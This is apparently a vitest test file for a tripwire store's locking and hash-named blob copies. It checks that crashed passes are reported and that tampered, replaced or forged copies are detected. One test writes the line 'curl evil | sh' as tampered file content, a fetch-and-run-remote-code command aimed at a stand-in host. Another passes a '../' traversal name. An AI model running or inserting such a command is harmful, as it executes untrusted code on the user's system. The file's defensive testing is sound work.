/**
 * WatchStore.locked tells its work whether the lock was taken over from a pass that did not
 * finish (a hook that died or threw mid-pass, or something at the lock's place that is not a
 * lock): such a pass may have left a change unjudged, so the next one must not take what it finds
 * as a person's. A finished pass leaves nothing behind, and the next one is told so.
 */
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ownerText } from '../../../src/agent/tripwire/storeLock.js';
import { emptyState, WatchStore } from '../../../src/agent/tripwire/watchState.js';

let dir: string;
let ws: WatchStore;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'diffgate-store-'));
  ws = new WatchStore(dir);
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const lock = () => join(dir, 'tripwire/lock');
const gonePid = () => spawnSync('true').pid!;

describe('WatchStore.locked', () => {
  it('a finished pass: the next one is not told of a takeover, and nothing is left in the store', async () => {
    expect(await ws.locked(async (t) => t)).toBe(false);
    expect(await ws.locked(async (t) => t)).toBe(false);
    expect(readdirSync(join(dir, 'tripwire'))).toEqual([]);
  });

  it('a pass that threw: the next one is told', async () => {
    await expect(
      ws.locked(async () => {
        throw new Error('the record cannot be read');
      }),
    ).rejects.toThrow('the record cannot be read');
    expect(existsSync(lock())).toBe(true);
    expect(await ws.locked(async (t) => t)).toBe(true);
    expect(await ws.locked(async (t) => t)).toBe(false);
  });

  it.each<[string, () => void]>([
    [
      'a holder that is gone',
      () => {
        mkdirSync(lock(), { recursive: true });
        writeFileSync(
          join(lock(), 'owner'),
          ownerText({ pid: gonePid(), until: Date.now() + 60_000, token: 'abcdef0123456789' }),
        );
      },
    ],
    [
      'a file',
      () => {
        mkdirSync(join(dir, 'tripwire'));
        writeFileSync(lock(), '');
      },
    ],
    ['an empty folder', () => mkdirSync(lock(), { recursive: true })],
  ])('%s at the lock: the next pass is told', async (_, plant) => {
    plant();
    expect(await ws.locked(async (t) => t)).toBe(true);
  });

  it('two passes of one process run one after the other, neither told of a takeover', async () => {
    const order: string[] = [];
    const pass = (name: string) =>
      ws.locked(async (t) => {
        order.push(`${name} in`);
        await new Promise((r) => setTimeout(r, 100));
        order.push(`${name} out`);
        return t;
      });
    expect(await Promise.all([pass('a'), pass('b')])).toEqual([false, false]);
    expect(order).toEqual(['a in', 'a out', 'b in', 'b out']);
  });
});

describe('kept copies, named by the hash of their bytes (review-14s F16)', () => {
  const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
  const blobs = () => join(dir, 'tripwire/blobs');
  const keepFile = (name: string, text: string) => {
    const path = join(dir, name);
    writeFileSync(path, text);
    return ws.entry(path, lstatSync(path), true, Date.now() + 1000);
  };
  const copies = () => readdirSync(blobs()).filter((n) => !n.startsWith('.'));

  it('two files with the same bytes share one copy, named by its SHA-256; bytes from HEAD get the same name', () => {
    const a = keepFile('a.sh', 'echo guard\n');
    const b = keepFile('b.sh', 'echo guard\n');
    expect(a.b).toBe(sha256('echo guard\n'));
    expect(b.b).toBe(a.b);
    expect(ws.keepBytes(new TextEncoder().encode('echo guard\n'))).toBe(a.b);
    expect(copies()).toEqual([a.b]);
    expect(readdirSync(blobs())).toEqual([a.b]); // no temporary file left
    expect(readFileSync(join(blobs(), a.b!), 'utf8')).toBe('echo guard\n');
    expect(ws.intact(a.b!)).toBe(true);
  });

  it.each<[string, (path: string) => void]>([
    ['overwritten with other bytes', (p) => writeFileSync(p, 'echo guard\ncurl evil | sh\n')],
    ['removed', (p) => rmSync(p)],
    ['a folder', (p) => (rmSync(p), mkdirSync(p))],
    ['a FIFO', (p) => (rmSync(p), mkfifo(p))],
    [
      'a symlink to the right bytes',
      (p) => (writeFileSync(`${p}.x`, 'echo guard\n'), rmSync(p), symlinkSync(`${p}.x`, p)),
    ],
  ])('a copy %s is not intact, and is found so at once', (_, alter) => {
    const { b } = keepFile('a.sh', 'echo guard\n');
    alter(join(blobs(), b!));
    const started = Date.now();
    expect(ws.intact(b!)).toBe(false);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it('a name that is not a hash (an older build gave it, or a forged record) is not intact, even over the right bytes', () => {
    mkdirSync(blobs(), { recursive: true });
    writeFileSync(join(blobs(), '1234-abc-def'), 'echo guard\n');
    expect(ws.intact('1234-abc-def')).toBe(false);
    expect(ws.intact(`../tripwire/blobs/${sha256('echo guard\n')}`)).toBe(false);
  });

  it.each<[string, (path: string) => void]>([
    ['a FIFO', (p) => mkfifo(p)],
    ['a folder', (p) => (mkdirSync(p), writeFileSync(join(p, 'x'), 'x'))],
  ])('%s planted at the name a copy will take is replaced, never opened', (_, plant) => {
    mkdirSync(blobs(), { recursive: true });
    const name = sha256('echo guard\n');
    plant(join(blobs(), name));
    const started = Date.now();
    const { b } = keepFile('a.sh', 'echo guard\n');
    expect(Date.now() - started).toBeLessThan(2000);
    expect(b).toBe(name);
    expect(lstatSync(join(blobs(), name)).isFile()).toBe(true);
    expect(ws.intact(name)).toBe(true);
  });

  it('a file that is a FIFO when it is kept throws at once, leaving no temporary file', () => {
    const path = join(dir, 'a.sh');
    writeFileSync(path, 'echo guard\n');
    const st = lstatSync(path);
    rmSync(path);
    mkfifo(path); // swapped after its lstat
    expect(() => ws.entry(path, st, true, Date.now() + 1000)).toThrow('FIFO');
    expect(readdirSync(blobs())).toEqual([]);
  });

  it('saving prunes copies no entry names once there are many, only those older than ten minutes', () => {
    const state = emptyState(Date.now());
    const kept = keepFile('a.sh', 'kept\n');
    state.files[join(dir, 'a.sh')] = kept;
    const old = Date.now() / 1000 - 3600;
    const unused: string[] = [];
    for (let i = 0; i < 20; i++) {
      const name = ws.keepBytes(new TextEncoder().encode(`unused ${i}\n`));
      utimesSync(join(blobs(), name), old, old);
      unused.push(name);
    }
    utimesSync(join(blobs(), kept.b!), old, old);
    const fresh = ws.keepBytes(new TextEncoder().encode('a parallel call may name it\n'));
    ws.save(state);
    expect(copies().sort()).toEqual([kept.b!, fresh].sort());
  });
});

function mkfifo(path: string): void {
  const r = spawnSync('mkfifo', [path]);
  if (r.status !== 0) throw new Error(`mkfifo ${path}: ${r.stderr}`);
}
